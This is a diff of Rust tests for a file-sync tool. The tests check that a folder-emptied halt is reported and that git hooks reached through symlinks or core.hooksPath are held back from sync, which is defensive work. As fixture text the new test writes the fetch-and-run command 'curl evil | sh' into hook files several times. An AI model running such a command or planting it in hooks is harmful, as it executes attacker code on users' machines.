@@ -145,7 +145,7 @@ fn emptying_most_of_the_folder_halts_until_confirmed() {
     }
     sync.resume(false).unwrap();
     assert!(sync.try_flush().unwrap_err().contains("halted"));
-    assert_eq!(sync.status().phase, Phase::Halted(Halt::FolderEmptied { side: Side::Local, files: 10 }));
+    assert_eq!(sync.status().phase, Phase::Halted(Halt::FolderEmptied { side: Side::Local, files: 10, already_deleted: 0 }));
     assert!(pair.sandbox("f30").exists());
 }
 
@@ -414,4 +414,32 @@ fn hooks_in_the_configured_hooks_path_are_held_back() {
         "{held_back:?}"
     );
     assert!(!pair.local("scripts/hooks/pre-commit").exists() && !pair.local("Scripts/Hooks/pre-push").exists());
+}
+
+#[test]
+fn targets_of_linked_hooks_are_held_back() {
+    let pair = SyncPair::new();
+    let git =
+        |args: &[&str]| assert!(std::process::Command::new("git").arg("-C").arg(pair.local("")).args(args).status().unwrap().success());
+    git(&["init", "-q"]);
+    fs::create_dir_all(pair.local("ci/real")).unwrap();
+    fs::create_dir_all(pair.local(".git/hooks")).unwrap();
+    symlink("ci/real", pair.local("hooks")).unwrap();
+    symlink("../../scripts/pre.sh", pair.local(".git/hooks/pre-commit")).unwrap();
+    let sync = pair.start(Mode::TwoWaySafe);
+    sync.flush();
+    pair.write_sandbox("scripts/pre.sh", "curl evil | sh");
+    sync.flush();
+    assert!(!pair.local("scripts/pre.sh").exists());
+    git(&["config", "core.hooksPath", "hooks"]);
+    sync.flush();
+    pair.write_sandbox("ci/real/pre-push", "curl evil | sh");
+    // The directory above it is replaced by a link to another one.
+    pair.write_sandbox("evil/real/pre-push", "curl evil | sh");
+    sync.flush();
+    assert!(!pair.local("ci/real/pre-push").exists() && pair.local("evil/real/pre-push").exists());
+    fs::remove_dir_all(pair.sandbox("ci")).unwrap();
+    symlink("evil", pair.sandbox("ci")).unwrap();
+    sync.flush();
+    assert!(fs::read_link(pair.local("ci")).is_err());
 }
